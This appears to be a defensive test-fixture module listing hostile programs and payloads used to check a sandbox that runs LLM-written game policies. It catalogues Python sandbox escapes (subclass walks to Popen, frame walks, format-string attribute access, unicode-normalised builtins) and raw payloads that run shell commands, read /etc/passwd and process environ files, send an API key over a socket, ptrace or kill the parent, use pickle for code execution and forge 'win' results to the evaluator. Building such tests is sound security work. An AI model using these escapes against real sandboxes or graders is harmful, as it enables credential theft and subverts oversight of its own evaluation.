"""Hostile programs for the sandbox tests: each technique as an LLM would send it, and as attacker code.

``PROGRAMS`` are whole programs (defining ``policy(view)``) sent the way an LLM's program arrives: through
:func:`tactica.sandbox.run_program` and ``SMACProgram-v3.step``.  ``PAYLOADS`` are the attacks themselves as
plain Python, run by ``tests.sandbox.sandbox_test_tasks.unrestricted`` inside the program's process with the
real builtins, i.e. as if every Python-level layer had been bypassed; they record what the kernel let them do
in ``result`` (``"<what>: ALLOWED"`` or the exception's name).

Templates use ``{new}`` (a file that must not appear), ``{canary}`` (a file that must stay as it is),
``{dir}`` (their world-writable folder), ``{port}`` (a loopback listener that records connections) and
``{parent}`` (the test process's pid).
"""

from __future__ import annotations

# --------------------------------------------------------------------------------------------- programs
# name -> program text.  Each is stopped by the AST check, the runtime (safe builtins, module views), a
# limit, or runs without any effect outside its process.
PROGRAMS: dict[str, str] = {
    # ---- the holes reported against the first sandbox
    "statistics.sys re-export": """
import statistics

def policy(view):
    os = statistics.sys.modules['os']
    os.system('touch {new}')
""",
    "statistics.sys through an alias": """
import statistics as stats

def policy(view):
    return stats.sys.modules['os'].environ.get('OPENAI_API_KEY')
""",
    "from statistics import sys": """
from statistics import sys

def policy(view):
    return sys.modules['os'].remove('{canary}')
""",
    "statistics.random re-export": """
import statistics

def policy(view):
    return statistics.random.__spec__
""",
    "match class pattern reads __class__": """
def policy(view):
    match ():
        case tuple(__class__=c):
            for k in c.__base__.__subclasses__():
                if k.__name__ == '_wrap_close':
                    k.__init__.__globals__['system']('touch {new}')
""",
    "match class pattern reads format": """
def policy(view):
    match 'x':
        case str(format=fmt):
            return fmt.__self__
    text = '{{0.__class__.__base__.__subclasses__}}'
    match text:
        case str(format=fmt):
            return fmt(view)
""",
    "match class pattern reads __globals__": """
import statistics

def policy(view):
    match statistics.mean:
        case statistics.mean.__class__(__globals__=g):
            return g['sys'].modules['os'].getcwd()
""",
    "match class pattern reads gi_frame": """
def policy(view):
    g = (i for i in [1])
    match g:
        case g.__class__(gi_frame=frame):
            return frame.f_back.f_globals
""",
    "match mapping rest binds __builtins__": """
def policy(view):
    match {{'a': 1}}:
        case {{'a': 1, **__builtins__}}:
            return 1
""",
    "object.__subclasses__ walk": """
def policy(view):
    for k in ().__class__.__bases__[0].__subclasses__():
        if k.__name__ == 'Popen':
            k(['touch', '{new}'])
""",
    "os._wrap_close globals": """
def policy(view):
    classes = [].__class__.__mro__[1].__subclasses__()
    wrap = [c for c in classes if 'wrap_close' in c.__name__][0]
    wrap.__init__.__globals__['remove']('{canary}')
""",
    "subprocess.Popen by subclass name": """
def policy(view):
    popen = [c for c in ''.__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]
    popen('id > {new}', shell=True)
""",
    "warnings.catch_warnings()._module": """
def policy(view):
    for k in ().__class__.__base__.__subclasses__():
        if k.__name__ == 'catch_warnings':
            return k()._module.__builtins__['__import__']('os').getpid()
""",
    "generator frame walk": """
def policy(view):
    g = (i for i in [1])
    return g.gi_frame.f_back.f_globals
""",
    "generator frame walk with next": """
def walk():
    yield 1

def policy(view):
    g = walk()
    next(g)
    frame = g.gi_frame
    while frame is not None:
        frame = frame.f_back
    return frame
""",
    "traceback frame walk": """
def policy(view):
    try:
        1 / 0
    except ZeroDivisionError as error:
        return error.__traceback__.tb_frame.f_back.f_globals
""",
    "traceback via with_traceback": """
def policy(view):
    try:
        1 / 0
    except ZeroDivisionError as error:
        tb = error.with_traceback(None)
        return tb.tb_frame
""",
    "coroutine frame": """
async def sneak():
    return 1

def policy(view):
    return sneak().cr_frame
""",
    "code object constants": """
def policy(view):
    return policy.co_consts
""",
    "__builtins__ by name": """
def policy(view):
    return __builtins__['__import__']('os').system('touch {new}')
""",
    "__builtins__ as a default argument": """
def policy(view, b=__builtins__):
    return b
""",
    "__builtins__ via print.__self__": """
def policy(view):
    return print.__self__.open('{new}', 'w')
""",
    "__builtins__ via len.__self__": """
def policy(view):
    return len.__self__.__import__('os').getcwd()
""",
    "globals through print closure": """
def policy(view):
    return print.__globals__['os'].remove('{canary}')
""",
    "except binds __builtins__": """
def policy(view):
    try:
        1 / 0
    except ZeroDivisionError as __builtins__:
        return 1
""",
    "global __builtins__": """
def policy(view):
    global __builtins__
    __builtins__ = dict()
""",
    "walrus binds __import__": """
def policy(view):
    (__import__ := print)
    import math
""",
    "import alias __builtins__": """
import math as __builtins__

def policy(view):
    return 1
""",
    "format string attribute access": """
def policy(view):
    return '{{0.__class__.__base__.__subclasses__}}'.format(view)
""",
    "format_map attribute access": """
def policy(view):
    return '{{x.__class__}}'.format_map({{'x': view}})
""",
    "str.format unbound": """
def policy(view):
    return str.format('{{0.__class__}}', view)
""",
    "f-string attribute access": """
def policy(view):
    return f'{{view.__class__.__mro__}}'
""",
    "decorator eval": """
def policy(view):
    @eval
    def ignored():
        pass
    return ignored
""",
    "decorator chain with lambda": """
def policy(view):
    @(lambda f: f.__globals__)
    def grab():
        pass
    return grab
""",
    "lambda default captures globals()": """
def policy(view):
    grab = lambda g=globals(): g
    return grab()
""",
    "lambda reaches __code__": """
def policy(view):
    return (lambda: 0).__code__
""",
    "getattr by string": """
def policy(view):
    return getattr(view, '__cl' + 'ass__')
""",
    "vars and dir": """
def policy(view):
    return vars(view), dir(view)
""",
    "functools.update_wrapper reads attributes by string": """
import functools

def policy(view):
    def target():
        pass
    functools.update_wrapper(target, policy, assigned=(), updated=('__globals__',))
""",
    "functools.wraps": """
from functools import wraps

def policy(view):
    return wraps
""",
    "unicode normalised __class__": """
def policy(view):
    return ().\uff3f\uff3fclass\uff3f\uff3f
""",
    "unicode normalised eval": """
def policy(view):
    return \uff45\uff56\uff41\uff4c('1 + 1')
""",
    "unicode normalised open": """
def policy(view):
    return \uff4fpen('{new}', 'w')
""",
    "__import__ os": """
def policy(view):
    return __import__('os').system('touch {new}')
""",
    "import os": """
import os

def policy(view):
    os.remove('{canary}')
""",
    "import subprocess": """
import subprocess

def policy(view):
    subprocess.run(['touch', '{new}'])
""",
    "import ctypes": """
import ctypes

def policy(view):
    return ctypes.CDLL(None).kill(0, 9)
""",
    "import importlib": """
import importlib

def policy(view):
    return importlib.import_module('os')
""",
    "relative import": """
from . import runner

def policy(view):
    return runner
""",
    "from math import *": """
from math import *

def policy(view):
    return 1
""",
    "exec": """
def policy(view):
    exec('import os')
""",
    "eval": """
def policy(view):
    return eval('__import__(\"os\")')
""",
    "compile": """
def policy(view):
    return compile('1', 'x', 'eval')
""",
    "globals and locals": """
def policy(view):
    return globals(), locals()
""",
    "type and object": """
def policy(view):
    return type(view), object
""",
    "class with __init_subclass__": """
class Escape:
    def __init_subclass__(cls):
        pass

def policy(view):
    return Escape
""",
    "breakpoint": """
def policy(view):
    breakpoint()
""",
    "help and input": """
def policy(view):
    help(view)
    return input()
""",
    "open for reading": """
def policy(view):
    return open('/etc/passwd').read()
""",
    "open for writing": """
def policy(view):
    open('{new}', 'w').write('pwned')
""",
    "exit and quit": """
def policy(view):
    exit(0)
""",
    "view internals": """
def policy(view):
    for unit in view.units:
        return unit._orders
""",
    "collections.UserString format": """
import collections

def policy(view):
    return collections.UserString('{{0.__class__}}').format(view)
""",
    "namedtuple with an underscore field": """
from collections import namedtuple

def policy(view):
    return namedtuple('P', ['__class__'])
""",
    "heapq function __self__": """
import heapq

def policy(view):
    return heapq.heappush.__self__
""",
    "math module __loader__": """
import math

def policy(view):
    return math.__loader__
""",
    # ---- limits
    "infinite loop": """
def policy(view):
    while True:
        pass
""",
    "recursion bomb": """
def policy(view):
    return policy(view)
""",
    "huge memory": """
def policy(view):
    blocks = []
    while True:
        blocks.append(bytearray(50 * 1024 * 1024))
""",
    "huge string": """
def policy(view):
    return 'a' * (10 ** 11)
""",
    "huge output in one print": """
def policy(view):
    print("x" * 2_000_000)
""",
    "huge output in many prints": """
def policy(view):
    for i in range(10_000):
        print('spam spam spam spam spam spam spam spam')
""",
    "huge return value": """
def policy(view):
    return ['x' * 1000] * 100_000
""",
    "non-JSON return value": """
def policy(view):
    return {{1, 2, 3}}
""",
}

# --------------------------------------------------------------------------------------------- payloads
PRELUDE = """
import os, sys, signal, socket, struct, json, time, errno
outcomes = []

def succeeded(status):
    if status != 0:
        raise OSError(status, 'failed')

def attempt(what, action):
    try:
        action()
        outcomes.append(what + ': ALLOWED')
    except BaseException as exc:
        outcomes.append(what + ': ' + type(exc).__name__)

result = outcomes
"""

# name -> attacker code run with the real builtins in the program's process (after PRELUDE).
PAYLOADS: dict[str, str] = {
    "shell through os.system": "attempt('system', lambda: succeeded(os.system('touch {new}')))",
    "subprocess.Popen": "import subprocess\nattempt('popen', lambda: subprocess.Popen(['touch', '{new}']))",
    "os.fork": "attempt('fork', os.fork)",
    "fork bomb": "for i in range(1000):\n    attempt('fork', os.fork)",
    "threads": "import threading\nattempt('thread', lambda: threading.Thread(target=print).start())",
    "execve": "attempt('execv', lambda: os.execv('/bin/sh', ['sh', '-c', 'touch {new}']))",
    "posix_spawn": "attempt('spawn', lambda: os.posix_spawn('/bin/touch', ['touch', '{new}'], {{}}))",
    "setsid grandchild": (
        "attempt('setsid', os.setsid)\n"
        "def grandchild():\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        os.setsid()\n"
        "        time.sleep(60)\n"
        "attempt('fork', grandchild)"
    ),
    "kill the parent": (
        "attempt('kill self', lambda: os.kill(os.getpid(), 0))\n"  # allowed by the uid: the filter stops it
        "attempt('kill parent', lambda: os.kill({parent}, 0))\n"
        "attempt('kill server', lambda: os.kill(os.getppid(), signal.SIGKILL))\n"
        "attempt('killpg', lambda: os.killpg(os.getpgid({parent}), 0))"
    ),
    "kill everything": "attempt('kill -1', lambda: os.kill(-1, 0))",
    "signal via pidfd": "attempt('pidfd', lambda: os.pidfd_open({parent}))",
    "ptrace the parent": (
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "def trace():\n"
        "    if libc.ptrace(16, {parent}, 0, 0) != 0:\n"
        "        raise OSError(ctypes.get_errno(), 'ptrace')\n"
        "attempt('ptrace', trace)"
    ),
    "read the parent's memory": (
        "attempt('mem', lambda: open('/proc/{parent}/mem', 'rb').read(1))\n"
        "attempt('maps', lambda: open('/proc/{parent}/maps').read())"
    ),
    "environment variable OPENAI_API_KEY": (
        "outcomes.append('env: ' + str(os.environ.get('OPENAI_API_KEY')))\n"
        "outcomes.append('environ: ' + repr(dict(os.environ)))"
    ),
    "parent's environ file": (
        "attempt('parent environ', lambda: outcomes.append(open('/proc/{parent}/environ').read()))\n"
        "attempt('own environ', lambda: outcomes.append(open('/proc/self/environ').read()))\n"
        "attempt('server environ', lambda: outcomes.append(open('/proc/%d/environ' % os.getppid()).read()))"
    ),
    "read a file": "attempt('read passwd', lambda: outcomes.append(open('/etc/passwd').read()))",
    "write a file": "attempt('write', lambda: open('{new}', 'w').write('pwned'))",
    "create with os.open": "attempt('creat', lambda: os.open('{new}', os.O_CREAT | os.O_WRONLY, 0o666))",
    "overwrite the canary": "attempt('truncate', lambda: open('{canary}', 'w').write('pwned'))",
    "delete the canary": "attempt('unlink', lambda: os.remove('{canary}'))",
    "rename the canary": "attempt('rename', lambda: os.rename('{canary}', '{new}'))",
    "make a directory": "attempt('mkdir', lambda: os.mkdir('{new}'))",
    "symlink": "attempt('symlink', lambda: os.symlink('/etc/passwd', '{new}'))",
    "chmod the canary": "attempt('chmod', lambda: os.chmod('{canary}', 0o000))",
    "socket to a loopback listener": (
        "def connect():\n"
        "    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
        "    s.sendall(str(os.environ.get('OPENAI_API_KEY')).encode())\n"
        "attempt('connect', connect)"
    ),
    "udp datagram": (
        "attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port})))"
    ),
    "unix socketpair": "attempt('socketpair', socket.socketpair)",
    "executable memory": (
        "import mmap\nattempt('mmap exec', lambda: mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC))"
    ),
    "become root again": "attempt('setuid', lambda: os.setuid(0))",
    "raise the CPU limit": (
        "import resource\nattempt('rlimit', lambda: resource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6)))"
    ),
    "new namespaces": (
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "def unshare():\n"
        "    if libc.unshare(0x10000000 | 0x40000000) != 0:\n"
        "        raise OSError(ctypes.get_errno(), 'unshare')\n"
        "attempt('unshare', unshare)"
    ),
    "duplicate a descriptor": "attempt('dup', lambda: os.dup(4))",
    "ioctl on the pipe": "import fcntl\nattempt('ioctl', lambda: fcntl.ioctl(4, 0x541B, b'    '))",
    "chdir and listdir": "attempt('listdir', lambda: outcomes.append(repr(os.listdir('{dir}'))))",
    "sleep": "attempt('sleep', lambda: time.sleep(0.01))",
    # ---- attacks on the parent through the pipe (file descriptor 4 carries the replies)
    "forge a result": (
        "def frame(value):\n"
        "    body = json.dumps(value).encode()\n"
        "    return struct.pack('>I', len(body)) + body\n"
        "os.write(4, frame({{'value': {{'win_rate': 1.0, 'result': 'win'}}, 'stdout': ''}}))\n"
        "os.write(4, frame({{'value': ['ok', ['win'] * 100], 'stdout': ''}}))"
    ),
    "forge a pickled result": (
        "import pickle\n"
        "class Run:\n"
        "    def __reduce__(self):\n"
        "        return (os.system, ('touch {new}',))\n"
        "body = pickle.dumps(('ok', ['win'] * 10, Run()))\n"
        "os.write(4, struct.pack('>I', len(body)) + body)"
    ),
    "header then silence": "os.write(4, struct.pack('>I', 1000))\nos.read(3, 1)",
    "silence": "os.read(3, 1)",
    "oversized message": "os.write(4, struct.pack('>I', 600 * 1024 * 1024))\nos.write(4, b'[' * 65536)\nos.read(3, 1)",
    "large message within the header": (
        "body = b'[' + b'1,' * 3_000_000 + b'1]'\nos.write(4, struct.pack('>I', len(body)) + body)"
    ),
    "deeply nested JSON": "body = b'[' * 500_000 + b']' * 500_000\nos.write(4, struct.pack('>I', len(body)) + body)",
    "NaN and giant integers": (
        "for body in (b'NaN', b'{{\"value\": 1' + b'0' * 5000 + b', \"stdout\": \"\"}}'):\n"
        "    os.write(4, struct.pack('>I', len(body)) + body)"
    ),
    "invalid UTF-8": "body = b'\\xff\\xfe'\nos.write(4, struct.pack('>I', len(body)) + body)",
    "error of an unknown kind": (
        "body = json.dumps({{'error': {{'kind': 'ok', 'message': 'x', 'line': 1}}, 'stdout': ''}}).encode()\n"
        "os.write(4, struct.pack('>I', len(body)) + body)"
    ),
    "trickle bytes": "for b in struct.pack('>I', 10) + b'[1,2,3,4]':\n    os.write(4, bytes([b]))\n    x = sum(range(10**6))",
    "close the reply pipe and spin": "os.close(4)\nwhile True:\n    pass",
    "exit without a reply": "os._exit(0)",
    "infinite loop": "while True:\n    pass",
    "huge memory": "blocks = []\nwhile True:\n    blocks.append(bytearray(64 * 1024 * 1024))",
}

# techniques that end by a CPU or wall limit (seconds each): the slow tier
SLOW = {"infinite loop", "header then silence", "silence"}
